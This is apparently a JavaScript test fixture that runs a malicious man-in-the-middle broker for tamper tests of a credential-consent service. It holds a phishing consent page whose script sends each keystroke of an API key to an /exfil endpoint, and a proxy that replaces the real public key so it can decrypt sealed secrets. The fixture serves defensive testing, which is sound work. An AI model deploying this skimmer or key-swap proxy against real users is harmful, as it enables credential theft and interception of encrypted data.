// A broker in the middle, for tamper tests: it proxies a real broker
// (crates/broker) but
//  - serves its own consent page at /connect and /connect/{code}, whose script
//    (/assets/*, any name) would send whatever is typed to /exfil;
//  - answers GET /v1/connect/{code} (and POST /v1/connect/resolve) with the
//    real answer's `public_key` replaced by a key of its own, so it could open
//    what a careless browser seals;
//  - forwards everything else (confirm, complete, the agent's API) unchanged.
// It records every request it receives (method, path, headers, raw body), so
// tests assert on what a browser actually sent it.
import { createServer } from "node:http";
import { TestAgent } from "./agent.mjs";

const EVIL_PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Sealpost · Confirm a credential request</title>
<script type="module" src="/assets/consent.js"></script></head>
<body><main><h1>Enter your API key</h1>
<label for="k">API key</label> <input id="k" type="password" autocomplete="off">
<button id="go" type="button">Encrypt and send</button></main></body></html>`;

// Sends every keystroke, in clear, to the broker: what a compromised consent page does.
const EVIL_SCRIPT = `const send = (v) => fetch("/exfil", { method: "POST", body: JSON.stringify({ stolen: v }) });
const k = document.getElementById("k");
if (k) k.addEventListener("input", () => send(k.value));
const go = document.getElementById("go");
if (go) go.addEventListener("click", () => send(k.value));
`;

const FORWARD_REQ = ["content-type", "authorization", "accept"];
const FORWARD_RES = ["content-type", "retry-after", "www-authenticate", "cache-control"];

/**
 * startEvilBroker({ upstream }) -> { url, requests, exfiltrated, key, open(ciphertext, algorithm), stop() }
 *  upstream: the real broker's URL. `key` is the substituted key pair (its
 *  fingerprint is `key.fingerprint`); `open` decrypts with it, as the evil
 *  operator would.
 */
export async function startEvilBroker({ upstream }) {
  const base = String(upstream).replace(/\/+$/, "");
  const evil = await TestAgent.create(base);
  const requests = [];
  const exfiltrated = [];

  async function forward(req, raw, rewriteKey) {
    const headers = {};
    for (const h of FORWARD_REQ) if (req.headers[h]) headers[h] = req.headers[h];
    const res = await fetch(base + req.url, {
      method: req.method,
      headers,
      body: req.method === "GET" || req.method === "HEAD" ? undefined : raw,
      redirect: "manual",
    });
    let body = Buffer.from(await res.arrayBuffer());
    if (rewriteKey && res.status === 200) {
      const data = JSON.parse(body.toString("utf8"));
      if (typeof data.public_key === "string") data.public_key = evil.publicKeyB64;
      body = Buffer.from(JSON.stringify(data));
    }
    const out = {};
    for (const h of FORWARD_RES) {
      const v = res.headers.get(h);
      if (v) out[h] = v;
    }
    return { status: res.status, headers: out, body };
  }

  const server = createServer(async (req, res) => {
    const chunks = [];
    for await (const c of req) chunks.push(c);
    const raw = Buffer.concat(chunks);
    const path = new URL(req.url, "http://x").pathname;
    requests.push({ method: req.method, path, headers: req.headers, body: raw.toString("utf8") });
    try {
      if (req.method === "GET" && /^\/connect(\/[^/]*)?\/?$/.test(path)) {
        res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", "Cache-Control": "no-store" });
        return res.end(EVIL_PAGE);
      }
      if (req.method === "GET" && /^\/(assets|pkg)\//.test(path)) {
        res.writeHead(200, { "Content-Type": "text/javascript; charset=utf-8", "Cache-Control": "no-store" });
        return res.end(EVIL_SCRIPT);
      }
      if (req.method === "POST" && path === "/exfil") {
        exfiltrated.push(raw.toString("utf8"));
        res.writeHead(204);
        return res.end();
      }
      const rewriteKey =
        (req.method === "GET" && /^\/v1\/connect\/[^/]+$/.test(path)) || (req.method === "POST" && path === "/v1/connect/resolve");
      const a = await forward(req, raw, rewriteKey);
      res.writeHead(a.status, a.headers);
      res.end(a.status === 204 ? undefined : a.body);
    } catch (e) {
      res.writeHead(502, { "Content-Type": "application/problem+json" });
      res.end(JSON.stringify({ type: "about:blank", title: "Bad Gateway", status: 502, detail: String(e) }));
    }
  });
  await new Promise((r) => server.listen(0, "127.0.0.1", r));
  const { port } = server.address();
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    exfiltrated,
    key: evil.key,
    open: (ciphertext, algorithm) => evil.open(ciphertext, algorithm),
    async stop() {
      server.closeAllConnections?.();
      await new Promise((r) => server.close(r));
    },
  };
}
